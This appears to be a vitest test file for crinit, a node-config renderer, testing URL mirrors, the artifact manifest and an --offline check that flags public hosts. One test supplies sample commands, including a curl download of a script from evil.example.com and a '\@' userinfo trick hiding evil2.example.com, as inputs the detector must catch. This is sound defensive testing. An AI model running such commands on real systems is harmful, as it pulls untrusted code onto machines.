/**
 * Air-gapped sites: `mirrors:` rewrites every URL and image the output fetches, `crinit manifest`
 * lists them with their pins, and `render --offline` refuses an output that still names a public
 * host. The URLs are read back from the output itself (file contents decoded), not from crinit.
 */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { compile } from '../dist/index.js';
import { DISTROS, IGNITION_DISTROS, runCli, supports, tempDir, writeTemp } from './helpers.js';
import { decodeDataUrl } from './ignition-config.js';

const MIRRORS = {
  'https://extensions.flatcar.org/': 'https://mirror.corp.internal/flatcar-extensions/',
  'https://download.docker.com/': 'https://mirror.corp.internal/docker/',
  'https://pkgs.k8s.io/': 'https://mirror.corp.internal/k8s/',
  'https://download.opensuse.org/': 'https://mirror.corp.internal/obs/',
  'https://github.com/': 'https://mirror.corp.internal/github/',
  'registry.k8s.io/': 'registry.corp.internal/k8s/',
};

/** Every text of an output as the node reads it: the document and each file's contents, decoded. */
function texts(output: string): string[] {
  if (output.startsWith('{')) {
    const ign = JSON.parse(output) as { storage: { files: { contents: { source: string; compression?: string } }[] } };
    // Remote sources (downloads Ignition makes) are in the document itself.
    return [output, ...ign.storage.files.filter((f) => f.contents.source.startsWith('data:')).map((f) => decodeDataUrl(f.contents.source, f.contents.compression))];
  }
  const doc = parseYaml(output, { version: '1.1' }) as { write_files: { content: string; encoding?: string }[] };
  return [output, ...doc.write_files.map((f) => (f.encoding === 'b64' ? Buffer.from(f.content, 'base64').toString('utf8') : f.content))];
}

/** The http(s) URLs in an output, trailing punctuation of the surrounding syntax removed. */
function urls(output: string): Set<string> {
  const out = new Set<string>();
  for (const t of texts(output)) for (const m of t.match(/https?:\/\/[^\s"',\]\\]+/g) ?? []) out.add(m.replace(/[;)]+$/, ''));
  return out;
}

function profiles(): { profile: string; set: string[] }[] {
  const out: { profile: string; set: string[] }[] = [];
  for (const d of DISTROS) {
    for (const rt of ['containerd', 'docker', 'cri-o']) {
      if (!supports(d, rt)) continue;
      out.push({ profile: `${d}/${rt}`, set: d === 'debian-13' ? [] : ['kubernetes.version=1.36'] });
    }
  }
  for (const d of IGNITION_DISTROS) out.push({ profile: `${d}/containerd`, set: [] }, { profile: `${d}/docker`, set: [] });
  // Flatcar's sysext images (the sums are placeholders).
  out.push(
    { profile: 'flatcar/containerd', set: [`kubernetes={"version": "1.36.1", "sysext": {"sha256": {"amd64": "${'ab'.repeat(32)}"}}}`] },
    { profile: 'flatcar/cri-o', set: ['runtime.version=1.36.1', `crio.sysext={"sha256": {"amd64": "${'cd'.repeat(32)}"}}`] },
  );
  return out;
}

describe('mirrors, manifest and --offline', () => {
  it('the manifest lists exactly the URLs in the output, for every distro and runtime', () => {
    for (const p of profiles()) {
      for (const mirrored of [false, true]) {
        const set = mirrored ? [...p.set, `mirrors=${JSON.stringify(MIRRORS)}`] : p.set;
        const r = compile({ profile: p.profile, set });
        expect(r.output, `${p.profile}: ${r.diagnostics.map((d) => d.message).join('; ')}`).toBeDefined();
        const listed = r.plan!.artifacts.filter((a) => a.kind !== 'image').map((a) => a.url);
        expect([...urls(r.output!)].sort(), `${p.profile} mirrored=${mirrored}`).toEqual([...new Set(listed)].sort());
        // The pause image is the one the runtime's config names.
        const image = r.plan!.artifacts.find((a) => a.kind === 'image')!;
        expect(texts(r.output!).some((t) => t.includes(image.url)), p.profile).toBe(true);
        if (mirrored) {
          for (const u of urls(r.output!)) expect(u, p.profile).toMatch(/^https:\/\/mirror\.corp\.internal\//);
          expect(image.url).toMatch(/^registry\.corp\.internal\/k8s\/pause:/);
        }
      }
    }
  });

  it('--offline passes a fully mirrored profile and fails, listing each public host, otherwise', () => {
    const dir = tempDir();
    const out = join(dir, 'node.user-data');
    const bare = runCli(['render', '--offline', '-o', out, 'ubuntu-24.04/docker', '--set', 'kubernetes.version=1.36']);
    expect(bare.status).toBe(1);
    for (const host of ['download.docker.com', 'pkgs.k8s.io', 'github.com', 'registry.k8s.io']) {
      expect(bare.stderr).toContain(`is fetched from the public host ${host}`);
    }
    expect(bare.stderr).toContain('mirrors: { "https://pkgs.k8s.io/": ');
    expect(existsSync(out)).toBe(false);

    const file = writeTemp(dir, 'node.yaml', `extends: ubuntu-24.04/docker\nkubernetes:\n  version: "1.36"\nmirrors: ${JSON.stringify(MIRRORS)}\n`);
    const ok = runCli(['render', '--offline', '-o', out, file]);
    expect(ok.status, ok.stderr).toBe(0);
    expect(existsSync(out)).toBe(true);

    // A registry mirror counts as internal: the pause image comes through it.
    const viaRegistry = writeTemp(dir, 'reg.yaml', `extends: ubuntu-24.04/containerd\nmirrors:\n  https://download.docker.com/: https://mirror.corp.internal/docker/\nruntime:\n  registryMirrors:\n    registry.k8s.io: [https://registry.corp.internal]\n`);
    expect(runCli(['render', '--offline', viaRegistry]).status).toBe(0);
  });

  it('--offline catches a public URL that only a user command or file names', () => {
    const dir = tempDir();
    const file = writeTemp(
      dir,
      'node.yaml',
      `extends: debian-12/containerd\nmirrors: ${JSON.stringify(MIRRORS)}\ncommands:\n  - curl -fsSLo /usr/local/bin/tool https://tools.example.com/tool\nfiles:\n  - path: /etc/motd\n    content: "see http://wiki.example.org/nodes\\n"\n`,
    );
    const r = runCli(['render', '--offline', file]);
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('commands[0] runs curl https://tools.example.com/tool, which fetches from the public host tools.example.com');
    expect(r.stderr).toContain('/etc/motd names the public host wiki.example.org');
    // Private addresses and the profile's own hosts are not public.
    const priv = writeTemp(dir, 'priv.yaml', `extends: debian-12/containerd\nmirrors: ${JSON.stringify(MIRRORS)}\ncommands:\n  - curl -fsS http://10.1.2.3:8080/ready https://mirror.corp.internal/x http://[fd00::5]/y\n`);
    expect(runCli(['render', '--offline', priv]).status).toBe(0);
  });

  it('--offline reads hosts the way the fetcher will: no scheme, curl\'s \\@, image pulls, kubeadm, git, --part scripts, and says so when it cannot tell', () => {
    const dir = tempDir();
    const commands = [
      'curl -fsSL evil.example.com/x.sh -o /tmp/x',
      'curl "http://10.0.0.1\\@evil2.example.com/x"',
      'ctr images pull docker.io/library/nginx:latest',
      'kubeadm config images pull',
      'git clone git@git.example.com:ops/node.git',
      'curl "$TOOL_URL"',
      'curl http://[::ffff:10.0.0.1]/ready',
    ];
    const file = writeTemp(dir, 'node.yaml', `extends: debian-12/containerd\nmirrors: ${JSON.stringify(MIRRORS)}\ncommands: ${JSON.stringify(commands)}\n`);
    const r = runCli(['render', '--offline', file]);
    expect(r.status, r.stderr).toBe(1);
    expect(r.stdout).toBe('');
    const lines = r.stderr.split('\n').filter((l) => l.includes('E-OFFLINE'));
    expect(lines).toEqual([
      'error E-OFFLINE: --offline: commands[0] runs curl evil.example.com/x.sh, which fetches from the public host evil.example.com',
      'error E-OFFLINE: --offline: commands[1] runs curl http://***@evil2.example.com/x, which fetches from the public host evil2.example.com',
      'error E-OFFLINE: --offline: commands[2] runs ctr images pull docker.io/library/nginx:latest, which fetches from the public host docker.io',
      'error E-OFFLINE: --offline: commands[3] runs kubeadm config images pull, which fetches from the public host registry.k8s.io',
      'error E-OFFLINE: --offline: commands[4] runs git clone git@git.example.com:ops/node.git, which fetches from the public host git.example.com',
      'error E-OFFLINE: --offline: commands[5] runs curl $TOOL_URL, and crinit cannot tell which host that fetches from',
    ]);
    // kubeadm and crictl pull through the runtime: its registry mirrors cover them.
    const mirrored = writeTemp(dir, 'm.yaml', `extends: debian-12/containerd\nmirrors: ${JSON.stringify(MIRRORS)}\nruntime:\n  registryMirrors: {registry.k8s.io: ["https://registry.corp.internal/k8s"], docker.io: ["https://registry.corp.internal/hub"]}\ncommands: ["kubeadm config images pull", "crictl pull nginx"]\n`);
    const m = runCli(['render', '--offline', mirrored]);
    expect(m.status, m.stderr).toBe(0);
    // A part of --format mime is read too.
    writeTemp(dir, 'extra.sh', '#!/bin/sh\nwget cdn.example.org/tool\n');
    const clean = writeTemp(dir, 'clean.yaml', `extends: debian-12/containerd\nmirrors: ${JSON.stringify(MIRRORS)}\n`);
    const part = runCli(['render', '--offline', '--format', 'mime', '--part', join(dir, 'extra.sh'), clean]);
    expect(part.status, part.stderr).toBe(1);
    expect(part.stderr).toContain('error E-OFFLINE: --offline: the part extra.sh runs wget cdn.example.org/tool, which fetches from the public host cdn.example.org');
  });

  it('--offline names a Terraform variable as written, not by crinit\'s internal word', () => {
    const dir = tempDir();
    const file = writeTemp(dir, 'node.yaml', `extends: debian-12/containerd\nmirrors: ${JSON.stringify(MIRRORS)}\nterraform:\n  variables: [site]\ncommands:\n  - curl -fsS https://\${site}.example.com/ready\n`);
    const r = runCli(['render', '--offline', '--format', 'tftpl', file]);
    expect(r.status, r.stderr).toBe(1);
    expect(r.stderr).toContain('runs curl https://${site}.example.com/ready, which fetches from the public host ${site}.example.com');
    expect(r.stderr).not.toContain('crinittfvar');
  });

  it('crinit manifest --json: repositories with their keys and packages, the download with its sha256, the image', () => {
    const r = runCli(['manifest', '--json', 'rhel-9/docker', '--set', 'kubernetes={"version": "1.35.2", "packages": ["kubelet", "cri-tools"]}']);
    expect(r.status, r.stderr).toBe(0);
    const m = JSON.parse(r.stdout) as { artifacts: Record<string, unknown>[]; distroPackages: string[] };
    expect(m.artifacts).toEqual([
      { kind: 'repository', url: 'https://download.docker.com/linux/rhel/9/$basearch/stable', upstream: 'https://download.docker.com/linux/rhel/9/$basearch/stable', fingerprint: '060A61C51B558A7F742B77AAC52FEB6B621E9F35', packages: ['docker-ce 3:29.*', 'docker-ce-cli 3:29.*', 'containerd.io'] },
      { kind: 'key', url: 'https://download.docker.com/linux/rhel/gpg', upstream: 'https://download.docker.com/linux/rhel/gpg', fingerprint: '060A61C51B558A7F742B77AAC52FEB6B621E9F35' },
      { kind: 'repository', url: 'https://pkgs.k8s.io/core:/stable:/v1.35/rpm/', upstream: 'https://pkgs.k8s.io/core:/stable:/v1.35/rpm/', fingerprint: 'DE15B14486CD377B9E876E1A234654DA9A296436', packages: ['kubelet 1.35.2.*', 'cri-tools 1.35.*'] },
      { kind: 'key', url: 'https://pkgs.k8s.io/core:/stable:/v1.35/deb/Release.key', upstream: 'https://pkgs.k8s.io/core:/stable:/v1.35/deb/Release.key', fingerprint: 'DE15B14486CD377B9E876E1A234654DA9A296436' },
      { kind: 'download', url: 'https://github.com/Mirantis/cri-dockerd/releases/download/v0.3.24/cri-dockerd-0.3.24.amd64.tgz', upstream: 'https://github.com/Mirantis/cri-dockerd/releases/download/v0.3.24/cri-dockerd-0.3.24.amd64.tgz', sha256: 'dd4b7f514c248a3aaca398f467430a4c58aae9a77ea8b96a2f5b5d6fba0948d1', version: '0.3.24' },
      { kind: 'image', url: 'registry.k8s.io/pause:3.10.1', upstream: 'registry.k8s.io/pause:3.10.1' },
    ]);
    expect(m.distroPackages).toEqual([]);
    // CRI-O on RHEL takes container-selinux from the distro's repositories.
    const crio = JSON.parse(runCli(['manifest', '--json', 'rhel-9/cri-o']).stdout) as { distroPackages: string[] };
    expect(crio.distroPackages).toEqual(['container-selinux']);
  });

  it('refuses a mirror that maps a URL to an image prefix, or disagrees on the trailing /, at line:col', () => {
    const dir = tempDir();
    const cases: [string, string, string][] = [
      ['mirrors:\n  https://pkgs.k8s.io/: registry.corp.internal/k8s/\n', '3:25', 'maps a URL prefix to an image prefix'],
      ['mirrors:\n  registry.k8s.io/: registry.corp.internal/k8s\n', '3:21', 'disagree on the trailing /'],
      ['mirrors:\n  "https://u:p@pkgs.k8s.io/": https://mirror.corp.internal/\n', '3:3', 'error E-SCHEMA'],
    ];
    for (const [body, at, text] of cases) {
      const r = runCli(['render', writeTemp(dir, 'node.yaml', `extends: ubuntu-24.04/containerd\n${body}`)]);
      expect(r.status, body).toBe(1);
      expect(r.stderr, body).toMatch(new RegExp(`node\\.yaml:${at}: .*${text.replace(/[/]/g, '\\/')}`));
    }
  });
});
